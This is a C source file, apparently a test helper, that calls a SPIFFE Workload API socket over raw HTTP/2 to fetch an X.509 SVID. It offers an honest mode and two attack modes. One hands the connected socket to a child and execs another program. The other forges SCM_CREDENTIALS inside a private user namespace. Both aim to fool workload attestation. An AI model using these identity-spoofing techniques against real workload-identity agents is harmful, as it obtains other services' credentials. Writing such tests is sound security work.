/*
 * A Workload API caller that can cheat: it connects, hands its socket to a child, and becomes another program.
 *
 *   exec-swap honest SOCKET                      calls as itself
 *   exec-swap wait                               only waits, as a program does that has its own work
 *   exec-swap swap SOCKET PROGRAM SENDER MILLIS  connects, execs "PROGRAM wait"; SENDER says who writes the request:
 *                                                "child" after MILLIS, or "parent" before it execs. The child reads.
 *
 *   exec-swap forge SOCKET PROGRAM SENDER MILLIS the same in a user namespace of its own, where it may tell the kernel that
 *                                                its child's bytes were written by the parent.
 *
 * With LIKE_JAVA in its environment it speaks as grpc-java does: other settings, and SOCKET is its :authority.
 *
 * Whatever messages come back are written to standard output as they are.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { DATA = 0, HEADERS = 1, SETTINGS = 4, PING = 6, GOAWAY = 7, ACK = 1, END_STREAM = 1, END_HEADERS = 4 };

static void pause_millis(long millis) {
  struct timespec t = {millis / 1000, (millis % 1000) * 1000000};
  nanosleep(&t, NULL);
}

static int dial(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  /* No close-on-exec: the program that comes after keeps the socket open. */
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address) != 0) {
    perror("connect");
    exit(2);
  }
  return fd;
}

/* Who the kernel is told to be the writer; 0 for the truth. */
static pid_t pretended;

static ssize_t send_all(int fd, const void *data, size_t length) {
  if (pretended == 0) return write(fd, data, length);
  char control[CMSG_SPACE(sizeof(struct ucred))] = {0};
  struct iovec vector = {(void *)data, length};
  struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  head->cmsg_level = SOL_SOCKET;
  head->cmsg_type = SCM_CREDENTIALS;
  head->cmsg_len = CMSG_LEN(sizeof(struct ucred));
  struct ucred sender = {pretended, geteuid(), getegid()};
  memcpy(CMSG_DATA(head), &sender, sizeof sender);
  return sendmsg(fd, &message, 0);
}

static size_t frame(uint8_t *out, int type, int flags, int stream, const void *payload, size_t length) {
  uint8_t head[9] = {length >> 16, length >> 8, length, type, flags, 0, 0, 0, stream};
  memcpy(out, head, 9);
  memcpy(out + 9, payload, length);
  return length + 9;
}

static size_t text(uint8_t *out, const char *value) {
  size_t length = strlen(value);
  out[0] = length;
  memcpy(out + 1, value, length);
  return length + 1;
}

static void send_request(int fd, const char *path) {
  static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  /* No pushes, no streams of the server's, a window of 1 MiB, 8 KiB of headers. */
  static const uint8_t settings[] = {0, 2, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0, 0, 4, 0, 0x10, 0, 0, 0, 6, 0, 0, 0x20, 0};
  int like_java = getenv("LIKE_JAVA") != NULL;
  uint8_t headers[384], out[640];
  size_t h = 0, o = sizeof preface - 1;
  memcpy(out, preface, o);
  o += frame(out + o, SETTINGS, 0, 0, settings, like_java ? sizeof settings : 0);
  headers[h++] = 0x83; /* :method POST */
  headers[h++] = 0x86; /* :scheme http */
  headers[h++] = 0x04;
  h += text(headers + h, "/SpiffeWorkloadAPI/FetchX509SVID");
  headers[h++] = 0x01;
  h += text(headers + h, like_java ? path : "localhost");
  headers[h++] = 0x0f;
  headers[h++] = 0x10;
  h += text(headers + h, "application/grpc");
  headers[h++] = 0x00;
  h += text(headers + h, "te");
  h += text(headers + h, "trailers");
  headers[h++] = 0x00;
  h += text(headers + h, "workload.spiffe.io");
  h += text(headers + h, "true");
  o += frame(out + o, HEADERS, END_HEADERS, 1, headers, h);
  o += frame(out + o, DATA, END_STREAM, 1, "\0\0\0\0\0", 5);
  if (send_all(fd, out, o) != (ssize_t)o) exit(3);
}

static int read_all(int fd, uint8_t *out, size_t length) {
  for (size_t got = 0; got < length;) {
    ssize_t n = read(fd, out + got, length - got);
    if (n <= 0) return 0;
    got += n;
  }
  return 1;
}

/* Speaks HTTP/2 as a client does, until the first message or the end of the call. */
static void read_answer(int fd) {
  static uint8_t payload[1 << 20];
  uint8_t head[9], out[32];
  while (read_all(fd, head, 9)) {
    size_t length = head[0] << 16 | head[1] << 8 | head[2];
    if (length > sizeof payload || !read_all(fd, payload, length)) return;
    if (head[3] == SETTINGS && !(head[4] & ACK)) send_all(fd, out, frame(out, SETTINGS, ACK, 0, "", 0));
    if (head[3] == PING && !(head[4] & ACK)) send_all(fd, out, frame(out, PING, ACK, 0, payload, 8));
    if (head[3] == DATA) {
      fwrite(payload, 1, length, stdout);
      return;
    }
    if (head[3] == HEADERS) fwrite(payload, 1, length, stdout);
    if (head[3] == GOAWAY || (head[3] == HEADERS && (head[4] & END_STREAM))) return;
  }
}

static int swap(const char *path, const char *program, const char *sender, long millis, int forges) {
  int fd = dial(path);
  int by_parent = strcmp(sender, "parent") == 0;
  if (by_parent) send_request(fd, path);
  pid_t child = fork();
  if (child != 0) {
    execl(program, program, "wait", NULL);
    perror("exec");
    return 4;
  }
  if (forges) pretended = getppid();
  pause_millis(millis);
  if (!by_parent) send_request(fd, path);
  read_answer(fd);
  fflush(stdout);
  kill(getppid(), SIGTERM);
  _exit(0);
}

static void put(const char *path, const char *text) {
  FILE *file = fopen(path, "w");
  if (file == NULL || fputs(text, file) < 0 || fclose(file) != 0) {
    perror(path);
    exit(6);
  }
}

/* Becomes root of a user and pid namespace of its own, and plays the swap in there. */
static int forge(char **argv) {
  char map[64], groups[64];
  snprintf(map, sizeof map, "0 %d 1", geteuid());
  snprintf(groups, sizeof groups, "0 %d 1", getegid());
  if (unshare(CLONE_NEWUSER | CLONE_NEWPID) != 0) {
    perror("unshare");
    return 5;
  }
  put("/proc/self/setgroups", "deny");
  put("/proc/self/uid_map", map);
  put("/proc/self/gid_map", groups);
  /* The namespace lives as long as its first process, which is to outlive the swap. */
  pid_t first = fork();
  if (first == 0) {
    if (fork() == 0) _exit(swap(argv[2], argv[3], argv[4], atol(argv[5]), 1));
    while (wait(NULL) > 0) continue;
    pause_millis(1500);
    _exit(0);
  }
  waitpid(first, NULL, 0);
  return 0;
}

int main(int argc, char **argv) {
  alarm(20);
  if (argc == 2 && strcmp(argv[1], "wait") == 0) {
    pause_millis(10000);
    return 0;
  }
  if (argc == 3 && strcmp(argv[1], "honest") == 0) {
    int fd = dial(argv[2]);
    send_request(fd, argv[2]);
    read_answer(fd);
    return 0;
  }
  if (argc == 6 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3], argv[4], atol(argv[5]), 0);
  if (argc == 6 && strcmp(argv[1], "forge") == 0) return forge(argv);
  fprintf(stderr, "usage: exec-swap honest|wait|swap|forge ...\n");
  return 1;
}
